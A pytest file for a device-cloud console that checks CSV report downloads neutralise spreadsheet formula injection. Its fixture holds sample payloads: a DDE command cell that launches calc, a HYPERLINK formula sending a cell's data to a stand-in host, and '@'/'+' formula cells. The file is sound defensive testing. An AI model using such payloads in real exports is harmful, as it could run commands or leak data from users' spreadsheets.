"""SPEC 11: no CSV the console serves opens as live formulas in a spreadsheet. The cloud's
(Athena-quoted) report carries formula-like cells; both download paths defuse them."""
from __future__ import annotations

import csv
import io

import pytest

from devicecloud.alias import Aliaser
from devicecloud.csvsafe import defuse_cell, defuse_row
from tests.gateway.conftest import ALIAS, REAL, mock_report

# Athena quotes every field; "" inside a field is a quote.
ATHENA_CSV = (
    '"d","deviceId","ts","date","d1","d2","=cmd|\' /C calc\'!A0"\r\n'
    f'"{REAL}","{REAL}","1764949464","2025-12-05,21:14:24","-3.5","+2","=HYPERLINK(""http://x.example/?""&A1,""ok"")"\r\n'
    f'"{REAL}","{REAL}","1764949474","2025-12-05,21:14:34","-1e-05","@SUM(A1:A2)","+cmd"\r\n'
    f'"{REAL}","{REAL}","1764949484","2025-12-05,21:14:44","-","\tx","\ry"\r\n'
    f'"{REAL}","{REAL}","1764949494","2025-12-05,21:14:54","-inf","","safe=text"\r\n'
)
EXPECTED_ROWS = [
    ["d", "deviceId", "ts", "date", "d1", "d2", "'=cmd|' /C calc'!A0"],
    [ALIAS, ALIAS, "1764949464", "2025-12-05,21:14:24", "-3.5", "+2",
     "'=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")"],
    [ALIAS, ALIAS, "1764949474", "2025-12-05,21:14:34", "-1e-05", "'@SUM(A1:A2)", "'+cmd"],
    [ALIAS, ALIAS, "1764949484", "2025-12-05,21:14:44", "'-", "'\tx", "'\ry"],
    [ALIAS, ALIAS, "1764949494", "2025-12-05,21:14:54", "'-inf", "", "safe=text"],
]


@pytest.mark.parametrize("cell, out", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@A1", "'@A1"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"), ("+", "'+"), ("=", "'="),
    ("-3.5", "-3.5"), ("+3.5", "+3.5"), ("-.5", "-.5"), ("-2.", "-2."), ("-1E+3", "-1E+3"), ("-0", "-0"),
    ("3.5", "3.5"), ("a=1", "a=1"), ("", ""), (" =1", " =1"), ("'=1", "'=1"),
    ("-3.5x", "'-3.5x"), ("-3.5\n=1", "'-3.5\n=1"), ("--1", "'--1"), ("-1-1", "'-1-1"),
])
def test_defuse_cell(cell, out):
    assert defuse_cell(cell) == out


def test_defuse_row_keeps_safe_rows_as_they_are():
    row = ["BTTE1", "1764949464", "2025-12-05,21:14:24", "3.5", "1e-05"]
    assert defuse_row(row) is row
    assert defuse_row([]) == []
    assert defuse_row(["=1", "-2"]) == ["'=1", "-2"]             # the first cell counts too
    assert defuse_row(["1", "x", "-2", "@me"]) == ["1", "x", "-2", "'@me"]


def test_the_alias_rewrite_defuses_every_line():
    out = "".join(Aliaser(REAL, ALIAS).csv_lines(io.StringIO(ATHENA_CSV, newline="")))
    assert list(csv.reader(io.StringIO(out))) == EXPECTED_ROWS


def test_report_csv_is_defused(client, auth, cloud):
    mock_report(cloud, ATHENA_CSV)
    r = client.get("/api/report.csv?startDate=2025-12-01&endDate=2025-12-02", headers=auth)
    assert r.status_code == 200
    assert list(csv.reader(io.StringIO(r.get_data(as_text=True)))) == EXPECTED_ROWS


def test_one_time_download_is_defused(client, auth, cloud):
    mock_report(cloud, ATHENA_CSV)
    link = client.post("/api/report-link?startDate=2025-12-01&endDate=2025-12-02", headers=auth).get_json()
    r = client.get(link["url"])
    assert r.status_code == 200
    assert list(csv.reader(io.StringIO(r.get_data(as_text=True)))) == EXPECTED_ROWS
